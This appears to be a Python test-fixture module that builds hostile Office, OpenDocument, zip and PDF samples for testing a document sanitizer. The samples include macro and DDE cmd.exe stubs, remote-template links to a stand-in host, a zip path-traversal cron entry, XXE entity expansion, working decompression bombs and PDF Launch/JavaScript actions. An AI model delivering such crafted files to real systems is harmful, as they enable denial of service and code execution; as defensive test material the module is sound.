"""Hostile documents: of office, packages that are bombs, and PDFs that do something. See `hostiles`."""

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator

import pikepdf
from archivos import abierto, accion, honesto, oficina, paquete, pdf, relaciones

MAXIMO = 1024 * 1024
Caso = tuple[str, bytes]


def documentos_de_office() -> Iterator[Caso]:
    """Macros, objects, templates and fields that act on opening."""
    carpetas = {"docx": "word", "xlsx": "xl", "pptx": "ppt"}
    macros = "application/vnd.ms-office.vbaProject"
    for ext, carpeta in carpetas.items():
        partes: tuple[dict[str, bytes], ...] = (
            {f"{carpeta}/vbaProject.bin": b"\xd0\xcf\x11\xe0"},
            {f"{carpeta}/VBAPROJECT.BIN": b"x"},
            {f"{carpeta}/activeX/activeX1.bin": b"x"},
            {f"{carpeta}/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"},
            {f"{carpeta}/embeddings/Paquete.exe": b"MZ"},
            {f"{carpeta}/embeddings/Hoja1.xlsx": oficina("xlsx", {"xl/vbaProject.bin": b"x"})},
            {f"{carpeta}/_rels/settings.xml.rels": relaciones("attachedTemplate", "http://mal.test/x.dotm")},
            {f"{carpeta}/_rels/a.xml.rels": relaciones("oleObject", "mhtml:http://mal.test/x.html!x-usc:y")},
            {f"{carpeta}/_rels/a.xml.rels": relaciones("hyperlink", "javascript:alert(1)")},
            {f"{carpeta}/_rels/a.xml.rels": relaciones("frame", "file:///c:/windows/x")},
            {f"{carpeta}/media/guion.js": b"alert(1)"},
            {f"{carpeta}/afchunk.mht": b"MIME-Version: 1.0"},
            {f"{carpeta}/a.xml": b'<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><x>&b;</x>'},
            {"../../../etc/cron.d/x": b"* * * * * root sh"},
            {"/etc/passwd": b"x"},
        )
        for parte in partes:
            yield f"acta.{ext}", oficina(ext, parte)
        yield f"acta.{ext}", oficina(ext, mas=f'<Override PartName="/{carpeta}/x.bin" ContentType="{macros}"/>')
    palabra = "application/vnd.ms-word.document.macroEnabled"
    yield "acta.docx", oficina(tipo=palabra)
    yield "acta.docm", oficina(tipo=palabra)
    yield "hoja.xlsx", oficina("xlsx", {"xl/macrosheets/sheet1.xml": b"<x/>"})
    yield "hoja.xlsx", oficina("xlsx", {"xl/externalLinks/externalLink1.xml": b'<x:ddeLink ddeService="cmd"/>'})
    for campo in (b"DDEAUTO c:\\\\windows\\\\cmd.exe", b"dde excel", b"&#68;DE x"):
        yield "acta.docx", oficina(partes={"word/document.xml": b"<w:instrText>" + campo + b"</w:instrText>"})
    for parte in (
        {"Basic/Standard/script-lb.xml": b"<x/>"},
        {"Scripts/python/x.py": b"import os"},
        {"content.xml": b'<x><script:event-listener xlink:href="vnd.sun.star.script:a"/></x>'},
        {"content.xml": b'<x><text:dde-connection office:dde-application="soffice"/></x>'},
        {"Object 1/x.exe": b"MZ"},
    ):
        yield "acta.odt", abierto("odt", parte)
    yield "acta.odt", abierto(manifiesto=b'<x media-type="application/vnd.sun.star.oleobject"/>')
    yield "hoja.ods", abierto("ods", manifiesto=b"<manifest:encryption-data/>")
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
    yield "acta.doc", ole
    yield "acta.docx", ole
    yield "cifrado.xlsx", ole + "EncryptedPackage".encode("utf-16-le")


def _ceros(mb: int, nombre: str = "word/media/x.bin", veces: int = 1, base: bytes = b"") -> bytes:
    """A document that unpacks to `veces` × `mb` megabytes, written without holding them."""
    salida = io.BytesIO(base or oficina())
    with zipfile.ZipFile(salida, "a", zipfile.ZIP_DEFLATED) as z:
        for n in range(veces):
            with z.open(f"{n}{nombre}" if n else nombre, "w") as parte:
                for _ in range(mb):
                    parte.write(bytes(1024 * 1024))
    return salida.getvalue()


def _con_clave(contenido: bytes) -> bytes:
    """The flag of a ciphered part, in its two headers."""
    datos = bytearray(contenido)
    for marca, lugar in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        inicio = -1
        while (inicio := datos.find(marca, inicio + 1)) >= 0:
            datos[inicio + lugar] |= 1
    return bytes(datos)


def bombas() -> Iterator[Caso]:
    """Packages that grow without end, or lie about what they hold."""
    yield "bomba.docx", _ceros(301)
    yield "bomba.docx", _ceros(102, veces=3)
    yield "bomba.odt", _ceros(301, "Pictures/x.png", base=abierto())
    yield "xml.docx", oficina(partes={"word/document.xml": b"<x>" + b" " * (65 * MAXIMO) + b"</x>"})
    for extension in ("docx", "xlsx"):
        yield f"miles.{extension}", oficina(extension, {f"x/{n}": b"" for n in range(5001)})
    dentro = _ceros(301, "x")
    for vuelta in range(3):
        dentro = paquete({f"{vuelta}.zip": dentro})
        yield f"anidado{vuelta}.docx", dentro
        yield f"anidado{vuelta}.zip", dentro
    yield (
        "carta.docx",
        oficina(partes={"word/embeddings/a.docx": oficina(partes={"word/embeddings/b.docx": oficina()})}),
    )
    mentira = bytearray(oficina(partes={"word/z.bin": b"0" * 5000}))
    central = mentira.rfind(b"PK\x01\x02")
    mentira[central + 24 : central + 28] = struct.pack("<I", 10)
    yield "mentira.docx", bytes(mentira)
    for extension in ("docx", "xlsx", "pptx", "odt", "ods"):
        yield f"clave.{extension}", _con_clave(honesto(extension))
        yield f"simple.{extension}", paquete({"acta.txt": b"hola"})
    yield "todo.zip", paquete({"acta.pdf": pdf()})


def _ceros_deflate(mb: int) -> bytes:
    """A zlib stream of `mb` megabytes of zeros, made from one of them."""
    uno = zlib.compressobj(9)
    cabeza = uno.compress(bytes(MAXIMO)) + uno.flush(zlib.Z_FULL_FLUSH)
    otro = zlib.compressobj(9, wbits=-15)
    bloque = otro.compress(bytes(MAXIMO)) + otro.flush(zlib.Z_FULL_FLUSH)
    suma = ((mb * MAXIMO % 65521) << 16) | 1
    return cabeza + bloque * (mb - 1) + b"\x03\x00" + struct.pack(">I", suma)


def pdf_bomba(mb: int) -> bytes:
    """An object stream, twice compressed, that takes `mb` megabytes to open."""
    chorro = zlib.compress(_ceros_deflate(mb), 9)
    cuerpos = [
        b"<< /Type /Catalog /Pages 2 0 R /Otro 5 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
        b"<< /Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode] /Length %d >>\nstream\n%s\nendstream"
        % (len(chorro), chorro),
    ]
    datos, filas = b"%PDF-1.5\n", [struct.pack(">BIH", 0, 0, 0xFFFF)]
    for n, cuerpo in enumerate(cuerpos, start=1):
        filas.append(struct.pack(">BIH", 1, len(datos), 0))
        datos += b"%d 0 obj\n%s\nendobj\n" % (n, cuerpo)
    filas += [struct.pack(">BIH", 2, 4, 0), struct.pack(">BIH", 1, len(datos), 0)]
    tabla = b"".join(filas)
    return datos + (
        b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n%s\nendstream\nendobj\n"
        b"startxref\n%d\n%%%%EOF\n" % (len(tabla), tabla, len(datos))
    )


def _pdf_con_adjunto() -> bytes:
    documento = pikepdf.new()
    documento.add_blank_page()
    documento.attachments["x.exe"] = b"MZ"
    salida = io.BytesIO()
    documento.save(salida)
    return salida.getvalue()


def pdfs() -> Iterator[Caso]:
    """A PDF that does something."""
    dic, arr, nom = pikepdf.Dictionary, pikepdf.Array, pikepdf.Name
    acciones = (
        accion("JavaScript", JS="app.alert(1)"),
        accion("Launch", F="cmd.exe"),
        accion("SubmitForm", F="http://mal.test"),
        accion("ImportData", F="x.fdf"),
        accion("GoToE", F="x.pdf"),
        accion("Rendition", JS="x"),
        accion("URI", URI="javascript:alert(1)"),
    )
    for a in acciones:
        yield "abre.pdf", pdf({"/OpenAction": a})
        yield "nota.pdf", pdf(pagina={"/Annots": arr([dic(Type=nom.Annot, Subtype=nom.Link, A=a)])})
        yield "junto.pdf", pdf({"/OpenAction": a}, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    fondo = acciones[0]
    for _ in range(60):
        fondo = accion("GoTo", Next=fondo)
    yield "fondo.pdf", pdf({"/OpenAction": fondo})
    for a in acciones[:3]:
        yield "encadena.pdf", pdf({"/OpenAction": accion("GoTo", Next=a)})
        yield "pagina.pdf", pdf(pagina={"/AA": dic(O=a)})
        yield "campo.pdf", pdf({"/AcroForm": dic(Fields=arr([dic(T="x", AA=dic(K=a))]))})
    yield "nombres.pdf", pdf({"/Names": dic(JavaScript=dic(Names=arr(["a", acciones[0]])))})
    yield "xfa.pdf", pdf({"/AcroForm": dic(XFA="<xdp:xdp/>", Fields=arr([]))})
    yield "adjunto.pdf", _pdf_con_adjunto()
    for tipo in ("FileAttachment", "RichMedia", "Movie", "Sound"):
        yield "nota.pdf", pdf(pagina={"/Annots": arr([dic(Type=nom.Annot, Subtype=nom(f"/{tipo}"))])})
    yield (
        "velado.pdf",
        pdf({"/OpenAction": acciones[0]}).replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS", b"/#4AS"),
    )
    yield "clave.pdf", pdf(encryption=pikepdf.Encryption(owner="a", user="b"))
    yield "bomba.pdf", pdf_bomba(3000)
    yield "roto.pdf", b"%PDF-1.7\n%%EOF"
    yield "roto.pdf", pdf()[:100]
    yield "hondo.pdf", pdf().replace(b"/MediaBox", b"/X " + b"[" * 5000 + b"]" * 5000 + b" /MediaBox")
